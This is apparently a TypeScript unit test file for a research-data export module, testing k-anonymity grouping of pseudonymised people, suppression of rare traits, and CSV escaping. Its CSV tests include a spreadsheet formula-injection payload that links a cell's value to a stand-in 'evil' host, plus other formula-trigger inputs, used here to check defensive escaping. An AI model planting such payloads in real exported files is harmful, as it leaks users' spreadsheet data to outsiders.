import { csvText } from './csv.js';
import { researchTable } from './research-people.js';
import type { ResearchPerson } from './research-people.js';

const crowd = (count: number): ResearchPerson[] =>
  Array.from({ length: count }, (_, n) => ({
    pseudonym: `p${String(n).padStart(3, '0')}`,
    age: 30 + (n % 40),
    sex: n % 2 ? 'female' : 'male',
    region: n % 3 ? 'Europe' : 'Asia',
    conditions: n % 2 ? ['hypertension'] : [],
  }));

describe('the people of a research file', () => {
  it('are told by ranges that at least ten share', () => {
    const { rows } = researchTable(crowd(200), { k: 10, l: 2 });
    expect(rows).toHaveLength(200);
    const alike = new Map<string, number>();
    for (const [, , ...traits] of rows) {
      const key = traits.slice(0, 3).join('|');
      alike.set(key, (alike.get(key) ?? 0) + 1);
    }
    expect(Math.min(...alike.values())).toBeGreaterThanOrEqual(10);
    expect(alike.size).toBeGreaterThan(3);
  });

  it('are not told by a great age, a rare disease or a rare place (H117)', () => {
    const rare: ResearchPerson = {
      pseudonym: 'rare',
      age: 97,
      sex: 'unspecified',
      region: 'Arctic',
      conditions: ['heart-transplant'],
    };
    const { rows } = researchTable([...crowd(200), rare], { k: 10, l: 2 });
    const text = csvText(rows);
    expect(rows.map(([, , age]) => age).join()).not.toContain('97');
    expect(text).not.toContain('heart-transplant');
    const own = rows.find(([pseudonym]) => pseudonym === 'rare')!;
    expect(
      rows.filter((row) => row.slice(2, 5).join() === own.slice(2, 5).join()).length,
    ).toBeGreaterThanOrEqual(10);
    expect(own[5]).toMatch(/ or other$/);
  });

  it('are not told by a condition that stands in fewer rows than a group has people (H117)', () => {
    for (const rareOnes of [1, 9, 10]) {
      const people = crowd(60).map((person, n) =>
        n < rareOnes ? { ...person, conditions: ['gout'] } : person,
      );
      const counts = new Map<string, number>();
      for (const [, , , , , told] of researchTable(people, { k: 10, l: 2 }).rows)
        counts.set(String(told), (counts.get(String(told)) ?? 0) + 1);
      expect(Math.min(...counts.values())).toBeGreaterThanOrEqual(10);
      expect(counts.has('gout')).toBe(rareOnes === 10);
    }
    const nobodyElse = [...crowd(40)].map((person) => ({ ...person, conditions: ['hypertension'] }));
    nobodyElse[0] = { ...nobodyElse[0]!, conditions: [] };
    expect(researchTable(nobodyElse, { k: 10, l: 2 }).rows).toEqual([]);
  });
});

describe('a cell of a CSV', () => {
  it.each([
    ['=HYPERLINK("http://evil?"&A1)', `"'=HYPERLINK(""http://evil?""&A1)"`],
    ['+cmd', `'+cmd`],
    ['@SUM', `'@SUM`],
    ['-1+1', `'-1+1`],
    ['\t=1', `'\t=1`],
    ["'=1", `''=1`],
    ['a,b', '"a,b"'],
    ['plain', 'plain'],
  ])('%j opens as text (H080)', (value, expected) => expect(csvText([[value]])).toBe(`${expected}\r\n`));

  it('is a number where it is one, and empty where nothing is known', () =>
    expect(csvText([[-1.5, null]])).toBe('-1.5,\r\n'));
});
